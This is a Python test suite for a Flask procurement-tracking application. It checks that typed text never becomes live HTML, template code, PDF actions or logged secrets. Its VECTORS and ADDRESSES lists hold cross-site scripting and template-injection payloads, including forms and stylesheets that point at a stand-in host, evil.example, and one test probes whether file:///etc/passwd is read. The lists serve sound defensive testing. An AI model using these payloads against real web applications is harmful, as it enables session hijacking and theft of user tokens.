"""What people type is shown as text on every page and in every report; beside it pages where it is not."""

import csv
import io
import json
import logging
import re
import select
import socket
from collections.abc import Callable, Iterable, Iterator
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pikepdf
import pytest
from flask import Flask, render_template_string, request
from werkzeug.routing import Rule
from werkzeug.test import TestResponse

from tests.accounts.world import World
from tests.client import Browser, make_user
from tests.evidence.papers import keep
from tests.factories import BY, make_department, make_draft, make_enterprise, make_institution, make_purchase
from tests.imports.files import HEADINGS, purchase_row
from tests.imports.pages import confirm
from tests.purchases.pages import fields_of
from tests.rarities import add_rarities
from tests.reports.documents import everything_in, pages_of
from tests.reports.test_pdf import VECTORS as PRINTED
from tests.rounds.rounds import IN_PERIOD, answer_for, choice_of, make_round
from tracker.accounts.models import User
from tracker.core.periods import year
from tracker.core.vocabulary import CertificationEventKind, DeadlineKind, Kind, Role
from tracker.departments.services import reorganise
from tracker.enterprises.services import (
    CertificationDraft,
    ProductDraft,
    add_product,
    certify,
    record_status,
    record_vulnerable_share,
)
from tracker.extensions import db, transaction
from tracker.imports.aliases import Pointer, learn_aliases
from tracker.imports.learnt_layouts import LayoutDraft, learn_layout
from tracker.imports.models import AmendmentRule, ImportSubject, Party
from tracker.purchases.services import correct_purchase
from tracker.reports.queries import get_intact_snapshot
from tracker.reports.renderers import Format, render_report
from tracker.reports.requests import ReportRequest
from tracker.reports.services import create_report
from tracker.rounds.services import send_back
from tracker.spending.services import SpendingDraft, record_spending
from tracker.targets.services import (
    DeadlineDraft,
    PlanDraft,
    TargetDraft,
    add_deadline,
    plan_purchases,
    record_budget,
    set_target,
)

VECTORS = (
    "x onmouseover=alert(1) ",
    '"><b onclick=alert(1)>b</b>',
    "'><i onfocus='alert(1)' autofocus>i</i>",
    "</title></textarea></option></script><script>alert(1)</script>",
    "--><img src=x onerror=alert(1)>",
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">a</a></svg>',
    '<a href="javascript:alert(1)">a</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example/"><input name=csrf_token></form>',
    "<style>*{background:url(https://evil.example/)}</style><link rel=stylesheet href=//evil.example/x>",
    "{{7*7}}${7*7}{%if 1%}#{7*7}",
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><!--',
)
HOSTILE = "".join(VECTORS)
ADDRESSES = (
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "//evil.example/",
    'https://evil.example/"onmouseover="alert(1)',
)

# Elements that the program never writes, and attributes that lead somewhere or run.
FOREIGN = {"applet", "base", "embed", "frame", "object"}
LEADING = {"action", "background", "data", "formaction", "href", "poster", "src", "srcset", "xlink:href"}
RUNNING = {"srcdoc", "style"}
# What addresses of the program ask with, and what forms carry unseen and must send back as it is.
ASKED = {
    *("after", "basis", "by", "department", "enterprise", "enterprise_id", "fiscal_year", "format", "from"),
    *("kind", "key", "next", "of", "order", "page", "q", "repeat", "scope", "severity", "show", "sort"),
    *("state", "subject", "text", "to", "type", "unit", "within", "year"),
}
NAME = re.compile(r'<(?:input|select|textarea)[^>]* name="([^"]+)"')
HIDDEN = re.compile(r'name="([^"]+)"[^>]*value="([^"]*)"')
KEPT = {"csrf_token", "key", "version"}
# They give away files of a form that is asked for, or are no page.
UNSEEN = {"imports.template", "purchases.export", "totals.export", "web.language"}
FILES = {
    "application/json",
    "application/octet-stream",
    "application/pdf",
    "application/zip",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "text/csv",
}


class LiveFinder(HTMLParser):
    """Collects what a browser would run, load or send to that the program has not written."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs).keys()
        is_foreign = tag in FOREIGN or (tag == "script" and "src" not in names)
        is_refresh = "http-equiv" in names and "url" in (dict(attrs).get("content") or "")
        runs = [name for name in names if name.startswith("on") or name in RUNNING]
        leads = [name for name, value in attrs if name in LEADING and not leads_nowhere(tag, value or "")]
        if is_foreign or is_refresh or runs or leads:
            self.found.append(self.get_starttag_text() or tag)

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "style" and "//" in data:
            self.found.append(data)


def leads_nowhere(tag: str, address: str) -> bool:
    """Return whether an address stays within the program, or is a page of the web that a person may click."""
    is_own = address[:1] in ("", "?", "#") or (address[0] == "/" and address[1:2] not in ("/", "\\"))
    return is_own or (tag == "a" and address.startswith(("http://", "https://")))


def live_in(page: str) -> list[str]:
    """Return what is live in a page."""
    finder = LiveFinder()
    finder.feed(page)
    finder.close()
    return finder.found + [text for text in ("49${7*7}",) if text in page]


@pytest.fixture
def world(app: Flask, tmp_path: Path) -> World:
    """Return a body in which every text that people type is hostile; faults are pages."""
    app.config["PROPAGATE_EXCEPTIONS"] = False
    return build_hostile_world(tmp_path)


def build_hostile_world(folder: Path) -> World:
    """Return the body: what addresses name, and who may come."""
    make_institution(HOSTILE)
    own = make_department(HOSTILE)
    after = make_department(f"{HOSTILE} 2", valid_from=date(2027, 1, 1))
    enterprise = make_enterprise(
        HOSTILE, representative=HOSTILE, address=HOSTILE, phone=HOSTILE, homepage=HOSTILE, items=HOSTILE
    )
    paper = CertificationDraft(
        type="social", number=HOSTILE, authority=HOSTILE, subtype=HOSTILE, valid_from=date(2020, 1, 1)
    )
    certification = certify(enterprise, paper, BY)
    facts: dict[str, Any] = dict.fromkeys(
        (
            "item",
            "contract_name",
            "contract_number",
            "unit",
            "ground",
            "channel",
            "means",
            "reference",
            "note",
        ),
        HOSTILE,
    )
    purchase = make_purchase(own, enterprise, 1_000, IN_PERIOD, **facts)
    correct_purchase(purchase, make_draft(own, enterprise, 900, IN_PERIOD, **facts), 1, HOSTILE, BY)
    spent: dict[str, Any] = {"department_id": own, "fiscal_year": 2026, "kind": Kind.GOODS}
    figures = record_spending([SpendingDraft(**spent, budget_item=HOSTILE, amount=5_000)], BY)
    set_target(
        TargetDraft(scheme="social_economy", fiscal_year=2026, rate=Decimal("0.05"), ground=HOSTILE), None, BY
    )
    record_budget(own, 2026, 9_000, HOSTILE, BY)
    planned = PlanDraft(
        **spent, scheme="social_economy", item=HOSTILE, amount=1_000, unit=HOSTILE, note=HOSTILE
    )
    due = DeadlineDraft(fiscal_year=2026, due_on=date(2026, 12, 1), kind=DeadlineKind.INTERNAL, title=HOSTILE)
    round_id = make_round(year(2026), title=HOSTILE)
    answer_for(round_id, own)
    send_back([choice_of(round_id, own)], HOSTILE, BY)
    things: dict[str, int | str] = {
        "account_id": make_user("somebody.else").id,
        "enterprise_id": enterprise,
        "certification_id": certification,
        "event_id": record_status(
            certification, CertificationEventKind.CANCELLED, date(2026, 11, 1), HOSTILE, BY
        ),
        "record_id": record_vulnerable_share(enterprise, Decimal("0.3"), HOSTILE, date(2026, 1, 1), BY),
        "product_id": add_product(
            enterprise, ProductDraft(name=HOSTILE, unit=HOSTILE, description=HOSTILE), BY
        ),
        "fiscal_year": 2026,
        "scheme": "social_economy",
        "deadline_id": add_deadline(due, BY),
        "line_id": plan_purchases([planned], BY)[0],
        "round_id": round_id,
        "report_id": create_report(ReportRequest(year=2026), BY).id,
        "layout_id": _teach_layout(enterprise),
        "name": "own-purchases",
        "evidence_id": keep(purchase, name=f"{HOSTILE}.pdf", note=HOSTILE),
        "number": 1,
        "department_id": own,
        "successor_id": after,
        "purchase_id": purchase,
        "spending_id": figures[0].spending_id or 0,
    }
    listed = make_enterprise("함께")
    things |= add_rarities(folder, (enterprise, listed), own, int(things["report_id"]), BY, HOSTILE)
    reorganise([own], [after], date(2027, 1, 1), BY)
    people = {role: make_user(f"the.{role}", role, own if role is Role.CLERK else None) for role in Role}
    with transaction():
        for person in db.session.scalars(db.select(User)):
            person.name = HOSTILE
    return World(own, own, people, {}, things)


def _teach_layout(enterprise: int) -> int:
    """Return a layout whose name and headings are hostile; so is a name that is remembered."""
    columns = tuple((vector, None) for vector in VECTORS)
    draft = LayoutDraft(name=VECTORS[3], columns=columns, unit=None, amendments=AmendmentRule.FINAL)
    learn_aliases([Pointer(Party.ENTERPRISE, "x", HOSTILE[:300], enterprise)], BY)
    return learn_layout(ImportSubject.PURCHASES, draft, 1, BY)


def send_things(browser: Browser, world: World) -> None:
    """Send a file of hostile name and cells, and a job: its preview, its batch and the job are there then."""
    good = purchase_row(부서=VECTORS[3], 업체명=VECTORS[4], 품목=VECTORS[5], 계약명=VECTORS[7])
    rows = [good, purchase_row(**dict.fromkeys(HEADINGS, HOSTILE))]
    content = io.StringIO()
    csv.writer(content).writerows([HEADINGS, *rows])
    file = io.BytesIO(content.getvalue().encode()), f"{HOSTILE}.csv"
    sent = browser.submit("/imports/new", subject="purchases", create_missing="y", files=[file])
    agreed = confirm(browser, sent.location, accept_valid="y")
    world.things["preview_id"] = sent.location.rpartition("/")[2]
    printed = browser.submit("/reports/1", "/reports/1/render", format="pdf")
    world.things["job_id"] = int(printed.location.rpartition("=")[2])
    world.things["batch_id"] = int(agreed.location.partition("?")[0].rpartition("/")[2])


class Anything(dict[str, int | str]):
    """What is there, and x for what is not."""

    def __missing__(self, name: str) -> str:
        return "x"


# What pages are asked that show nothing of themselves.
QUESTIONS = {
    "imports.previews": "p={preview_id}",
    "reports.differences": "to={later_id}",
    "enterprises.edition_file": "format=csv",
    "reports.download": "format=html",
    "reports.download_sheets": "format=zip",
    "reports.purchases": "by=department&key={department_id}",
    "reports.supersede": "by={later_id}",
    "totals.purchases": "year=2026&by=department&key={department_id}",
    "targets.purchases": "kind=goods",
    "purchases.suppliers": "text=x",
}


def pages(app: Flask, world: World) -> Iterator[tuple[Rule, str]]:
    """Yield every page of the program that people open, by its address."""
    for rule in app.url_map.iter_rules():
        if "GET" in (rule.methods or ()) and not rule.endpoint.endswith("static"):
            [(address, _department)] = world.addresses(rule)
            question = QUESTIONS.get(rule.endpoint, "").format_map(Anything(world.things))
            yield rule, f"{address}?{question}" if question else address


def faults_of(address: str, answer: TestResponse) -> list[str]:
    """Return what is wrong with an answer: a fault of the program, or anything live in a page."""
    if answer.status_code >= 500:
        return [f"{address}: {answer.status}"]
    if answer.mimetype == "text/html":
        return [f"{address}: {live}" for live in live_in(answer.text)]
    return [] if answer.mimetype in FILES else [f"{address}: {answer.mimetype}"]


def sign_in(app: Flask, world: World, role: Role) -> Browser:
    """Return the browser of the account of the role."""
    browser = app.test_client()
    assert isinstance(browser, Browser)
    browser.sign_in(world.people[role])
    return browser


@pytest.mark.long
def test_nothing_that_was_typed_is_live_on_any_page(app: Flask, world: World) -> None:
    browsers = {role: sign_in(app, world, role) for role in (Role.STAFF, Role.ADMIN, Role.AUDITOR)}
    send_things(browsers[Role.STAFF], world)
    faults, shown, missing = [], set(), set()
    for rule, address in pages(app, world):
        for role, browser in browsers.items():
            answer = browser.get(address, buffered=True)
            faults += faults_of(address, answer)
            if answer.status_code == 404 and role is Role.STAFF:
                missing.add(rule.endpoint)
            if answer.mimetype == "text/html" and "&lt;iframe" in answer.text:
                shown.add(rule.endpoint)

    assert not faults, "\n".join(faults)
    assert missing == UNSEEN
    assert len(shown) > 80, len(shown)


@pytest.mark.long
def test_nothing_that_an_address_says_is_live(app: Flask, world: World) -> None:
    browser = sign_in(app, world, Role.STAFF)
    asked = dict.fromkeys(ASKED, "".join(VECTORS[:5]))
    faults = []
    for rule, address in pages(app, world):
        if rule.endpoint != "web.language":
            answer = browser.get(address.partition("?")[0], query_string=asked, buffered=True)
            faults += faults_of(address, answer)
    answer = browser.get(f"/{quote(HOSTILE)}", buffered=True)
    faults += faults_of("nowhere", answer)

    assert not faults, "\n".join(faults)


@pytest.mark.long
def test_nothing_that_a_form_shows_again_is_live(app: Flask, world: World) -> None:
    faults, shown = [], set()
    for role in (Role.STAFF, Role.ADMIN):
        browser = sign_in(app, world, role)
        for rule, address in pages(app, world):
            if "POST" not in (rule.methods or ()):
                continue
            page = browser.get(address)
            if page.status_code == 200:
                typed = {name: HOSTILE for name in NAME.findall(page.text) if name not in KEPT}
                kept = {name: value for name, value in HIDDEN.findall(page.text) if name in KEPT}
                answer = browser.post(address, data=typed | kept, buffered=True)
                faults += faults_of(address, answer)
                if "&lt;iframe" in answer.text and answer.status_code in (409, 422):
                    shown.add(rule.endpoint)
    assert not faults, "\n".join(faults)
    assert len(shown) > 20, shown


@pytest.mark.long
def test_a_homepage_is_a_link_only_where_it_is_a_page_of_the_web(app: Flask, world: World) -> None:
    browser = sign_in(app, world, Role.STAFF)
    linked = []
    for number, homepage in enumerate(ADDRESSES):
        page = browser.get(f"/enterprises/{make_enterprise(f'{number}호', homepage=homepage)}").text
        linked += [homepage] if 'rel="noreferrer"' in page else []
        assert not live_in(page), homepage

    assert linked == [ADDRESSES[-1]]


@pytest.mark.parametrize("vector", VECTORS)
def test_pages_that_show_text_as_it_is_are_found(app: Flask, vector: str) -> None:
    places = (
        "<title>{}</title>",
        "<p>{}</p>",
        '<textarea name="note">{}</textarea>',
        '<input value="{}">',
        "<input value='{}'>",
        "<input value={}>",
        "<script src=/static/x.js></script><p><!-- {}",
    )
    with app.test_request_context():
        naive = [render_template_string(place.format("{{ text | safe }}"), text=vector) for place in places]
        naive.append(render_template_string(vector) if "{%" not in vector else "49${7*7}")
        plain = [
            render_template_string(place.format("{{ text }}"), text=vector)
            for place in places
            if "value={}" not in place
        ]

    assert [page for page in naive if live_in(page)]
    assert not [page for page in plain if live_in(page)]


@pytest.mark.long
def test_a_printed_report_asks_nobody_and_shows_text_as_text(app: Flask, tmp_path: Path) -> None:
    assert app
    for name in re.findall("{}/([a-z-]+)", "".join(PRINTED)):
        (tmp_path / name).write_text("CANARY-5be2")
    with socket.create_server(("127.0.0.1", 0)) as server:
        sources = f"http://127.0.0.1:{server.getsockname()[1]}", tmp_path.as_uri(), "file:///etc/passwd#"
        texts = [*VECTORS, *("".join(PRINTED).replace("{}", source) for source in sources)]
        data = print_report_of(texts)
        asked, *_ = select.select([server], [], [], 0)
        # The control: a request would be waiting there.
        with socket.create_connection(server.getsockname()):
            waiting, *_ = select.select([server], [], [], 5)
    text = "".join(pages_of(data)).replace(" ", "")

    assert (asked, waiting) == ([], [server])
    assert b"CANARY-5be2" not in everything_in(data)
    assert b"root:x:0" not in everything_in(data)
    assert not acts_in(data)
    for sign in (
        "<script>",
        "<imgsrc",
        "<svg",
        "<iframe",
        "<linkrel",
        "<object",
        "@import",
        "<base",
        "{{7*7}}",
    ):
        assert sign in text, sign


def print_report_of(texts: Iterable[str]) -> bytes:
    """Return the PDF of a report in which these texts are names of everything."""
    make_institution(VECTORS[3])
    office = make_department(VECTORS[4])
    for number, text in enumerate(texts):
        supplier = make_enterprise(text, ("social", date(2020, 1, 1), None))
        make_purchase(office, supplier, 1_000 + number, date(2025, 3, 1), item=text, contract_name=text)
    report = get_intact_snapshot(create_report(ReportRequest(year=2025), BY).id)
    return render_report(report, Format.PDF).data


def acts_in(data: bytes) -> list[str]:
    """Return what in a PDF leads out of it, runs or is attached."""
    with pikepdf.open(io.BytesIO(data)) as document:
        dictionaries = [item for item in document.objects if isinstance(item, pikepdf.Dictionary)]
        return [
            name for item in dictionaries for name in ("/AA", "/EF", "/JS", "/Launch", "/URI") if name in item
        ]


CANARY = "CANARY-9c41"


@pytest.mark.long
@pytest.mark.own_app
def test_no_log_tells_what_was_typed(
    app: Flask, as_user: Callable[..., Browser], capsys: pytest.CaptureFixture[str]
) -> None:
    app.logger.setLevel(logging.DEBUG)
    app.config["PROPAGATE_EXCEPTIONS"] = False
    browser = as_user()
    purchases = [make_purchase(make_department(f"{number}과"), make_enterprise()) for number in range(3)]
    well, refused, failing = (forms_of_canaries(browser, purchase) for purchase in purchases)
    refuse_sign_in(app)

    assert send_all(browser, well) == {302}
    assert CANARY not in capsys.readouterr().err
    for table in ("enterprise", "purchase_revision"):
        db.session.execute(
            db.text(
                f"CREATE TRIGGER no_{table} BEFORE INSERT ON {table} BEGIN SELECT RAISE(ABORT, 'full'); END"
            )
        )
    db.session.commit()
    assert send_all(browser, refused) == {500}
    app.before_request_funcs[None].append(fail)
    assert send_all(browser, failing) == {500}
    log = capsys.readouterr().err
    entries = [json.loads(line) for line in log.splitlines()]
    # The control: the faults are told, each in a line of its own, so this is the log that people read.
    assert {"IntegrityError", "ArithmeticError"} == {entry["error"] for entry in entries}
    assert {entry["method"] for entry in entries} == {"POST"}
    assert all(entry["trace"] for entry in entries)
    assert CANARY not in log


def fail() -> None:
    """Fail as a fault of the program does, with what was typed at hand."""
    raise ArithmeticError(request.form.to_dict())


def refuse_sign_in(app: Flask) -> None:
    """Try to sign in with an unknown name and a wrong password."""
    stranger = app.test_client()
    assert isinstance(stranger, Browser)
    for login in (CANARY, "staff.0"):
        assert stranger.submit("/login", login=login, password=CANARY).status_code == 401


def forms_of_canaries(browser: Browser, purchase: int) -> dict[str, dict[str, str]]:
    """Return forms filled in with canaries, by their address."""
    names = ("name", "representative", "phone", "address", "items", "reason")
    typed = dict.fromkeys(names, f"{CANARY} {purchase}")
    addresses = "/enterprises/new", f"/purchases/{purchase}/reverse"
    return {address: fields_of(browser.get(address).text) | typed for address in addresses}


def send_all(browser: Browser, forms: dict[str, dict[str, str]]) -> set[int]:
    """Send forms, and return how they were answered."""
    return {browser.post(address, data=fields).status_code for address, fields in forms.items()}
